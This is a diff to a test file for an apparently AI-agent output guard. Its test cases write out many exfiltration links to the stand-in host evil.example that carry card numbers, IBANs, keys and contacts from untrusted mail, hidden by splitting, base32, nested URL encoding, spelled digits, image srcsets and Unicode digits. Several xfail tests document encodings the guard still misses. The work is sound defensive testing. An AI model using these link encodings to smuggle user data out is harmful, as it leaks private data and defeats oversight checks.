@@ -14,6 +14,7 @@ import pytest
 from aap_server.guardian.memory import link_forms
 from aap_server.guardian.screen import WindowScreen
 from tests.conftest import best_cpu_seconds
+from tests.guardian.test_review_r7 import USER_NAMES_A_HOST, _after_untrusted_mail
 from tests.guardian.test_review_r9 import _reply_decision
 
 CARD = "4111 1111 1111 1111"
@@ -53,17 +54,50 @@ async def _masked(link: str) -> bool:
         f"{EVIL}?x=4111-1111#1111-1111",
         f"{EVIL}?a=4111%201111&b=1111%201111",  # encoded parts
         f"{EVIL}?a=4&b=1&c=1&d=1&e=1&f=1&g=1&h=1&i=1&j=1&k=1&l=1&m=1&n=1&o=1&p=1",
+        f"{EVIL}?a=4111&amp;b=1111&amp;c=1111&amp;d=1111",  # as written in an HTML attribute
+        "https://evil.example/4111%2F1111%2F1111%2F1111",  # encoded separators
+        f"{EVIL}?q=" + urllib.parse.quote("a=4111&b=1111&c=1111&d=1111", safe=""),
+        f"{EVIL}?c=4111,1111,1111,1111",
+        f"{EVIL}?c=4111:1111:1111:1111",
     ],
 )
 async def test_a_card_split_across_a_links_values_is_masked(link: str) -> None:
     assert await _masked(link)
 
 
+@pytest.mark.xfail(
+    strict=True,
+    reason="memory.link_forms decodes each value on its own: the values' decodings "
+    "(`?a=<base64 of 4111 1111>&b=<base64 of 1111 1111>`) are not joined again",
+)
+async def test_a_card_split_across_base64_values_is_masked() -> None:
+    halves = [base64.b64encode(half.encode()).decode() for half in ("4111 1111", "1111 1111")]
+    assert await _masked(f"{EVIL}?a={halves[0]}&b={halves[1]}")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="memory.scan_links reads each link on its own: a card split between two links "
+    "(two images, or the candidates of one `srcset`) is two harmless halves",
+)
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "Done. ![x](https://evil.example/p?c=41111111) ![y](https://evil.example/q?c=11111111)",
+        '<img srcset="https://evil.example/a.png?c=41111111 1x, '
+        'https://evil.example/b.png?c=11111111 2x">',
+    ],
+)
+async def test_a_card_split_between_two_links_is_masked(reply: str) -> None:
+    assert await _reply_decision(reply) == "modify"
+
+
 @pytest.mark.parametrize(
     "link",
     [
         f"{EVIL}?a=DE89&b=3704&c=0044&d=0532&e=0130&f=00",
-        "https://evil.example/DE89/3704/0044/0532/0130/00.png",
+        f"{EVIL}?c={IBAN.lower()}",
+        "https://evil.example/DE89/3704/0044/0532/0130/00.png",  # (held before: r9 join)
     ],
 )
 async def test_an_iban_split_across_a_links_values_is_masked(link: str) -> None:
@@ -104,6 +138,54 @@ async def test_a_key_split_across_a_links_values_is_masked() -> None:
     assert await _masked(f"{EVIL}?a={KEY[:10]}&b={KEY[10:]}")
 
 
+# --- contacts that came in untrusted, carried out in a link ---------------------------------
+
+CONTACTS = "Contacts: Alice Smith, alice.smith@corp.example, +1 415 555 0132."
+EMAIL = "alice.smith@corp.example"
+
+
+async def _contact_reply(link: str) -> str:
+    guardian, make = await _after_untrusted_mail(USER_NAMES_A_HOST, CONTACTS)
+    return (await guardian.check(make.message("agent", f"Done. ![x]({link})"))).decision
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        f"{EVIL}?a=415&b=555&c=0132",
+        "https://evil.example/415/555/0132.png",
+        f"{EVIL}?t={_b32('+14155550132')}",
+        f"{EVIL}?e={_b32(EMAIL)}",
+        f"{EVIL}?e=" + "".join(f"%u00{b:02x}" for b in EMAIL.encode()),
+    ],
+)
+async def test_an_untrusted_contact_carried_in_a_link_is_withheld(link: str) -> None:
+    assert await _contact_reply(link) == "modify"
+
+
+async def test_a_phone_the_session_never_read_in_a_split_link_is_left_alone() -> None:
+    assert await _contact_reply(f"{EVIL}?a=212&b=555&c=0199") == "allow"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="memory._spelled_digits reads the words as one bare number (`4155550132`), which "
+    "detectors.pii takes for a phone number only when grouped or named",
+)
+async def test_an_untrusted_phone_spelled_in_a_link_is_withheld() -> None:
+    spelled = "-".join(WORDS[int(d)] for d in "4155550132")
+    assert await _contact_reply(f"{EVIL}?t={spelled}") == "modify"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="memory._split_values joins numbers and IBAN groups only: an address split into "
+    "its local part and its domain (`?u=alice.smith&d=corp.example`) is two harmless words",
+)
+async def test_an_untrusted_address_split_across_values_is_withheld() -> None:
+    assert await _contact_reply(f"{EVIL}?u=alice.smith&d=corp.example") == "modify"
+
+
 # --- base32 --------------------------------------------------------------------------------
 
 
@@ -137,15 +219,24 @@ async def test_a_value_base32_encoded_in_a_path_segment_is_masked() -> None:
         "".join(f"%u00{b:02x}" for b in DIGITS.encode()),  # `escape()`'s old form
         "".join(f"\\x{b:02x}" for b in DIGITS.encode()),
         "".join(f"\\u{b:04X}" for b in CARD.encode()),
-        _quoted(CARD, 3),
-        _quoted(CARD, 4),
+        *(_quoted(CARD, times) for times in range(3, 11)),
     ],
 )
 async def test_a_card_escaped_in_a_link_is_masked(payload: str) -> None:
     assert await _masked(f"{EVIL}?c={payload}")
 
 
-@pytest.mark.parametrize("joiner", ["-", "+", "_", ".", "%20", ","])
+@pytest.mark.xfail(
+    strict=True,
+    reason="memory.link_forms URL-decodes 10 times over at most (LINK_DECODE_LAYERS times "
+    "1 + _URL_DECODE_ROUNDS): decoding to the end would cost the link's length once per "
+    "layer, so a link nested deeper is left encoded rather than refused",
+)
+async def test_a_card_url_encoded_eleven_times_in_a_link_is_masked() -> None:
+    assert await _masked(f"{EVIL}?c={_quoted(CARD, 11)}")
+
+
+@pytest.mark.parametrize("joiner", ["-", "+", "_", ".", "%20", ",", ""])
 async def test_a_card_spelled_in_words_in_a_link_is_masked(joiner: str) -> None:
     spelled = joiner.join(WORDS[int(d)] for d in DIGITS)
     assert await _masked(f"{EVIL}?c={spelled}")
@@ -174,6 +265,10 @@ async def test_a_card_spelled_in_german_words_in_a_link_is_masked() -> None:
         "https://" + "".join(chr(0xFF10 + int(d)) for d in DIGITS) + ".evil.example/",
         f"{EVIL}?c=" + "".join(chr(0xFF10 + int(d)) for d in DIGITS),  # full-width digits
         f"{EVIL}?c={DIGITS.encode().hex()}",
+        f"{EVIL}?c=" + "".join(chr(0x0660 + int(d)) for d in DIGITS),  # Arabic-Indic digits
+        f"{EVIL};a=4111;b=1111;c=1111;d=1111",  # matrix parameters
+        "https://4111:1111@evil.example/1111/1111",  # userinfo, then the path
+        f"{EVIL}?c=4111\u200b1111\u200b1111\u200b1111",  # zero-width spaces
     ],
 )
 async def test_a_card_in_a_link_in_other_ways_is_masked(link: str) -> None:
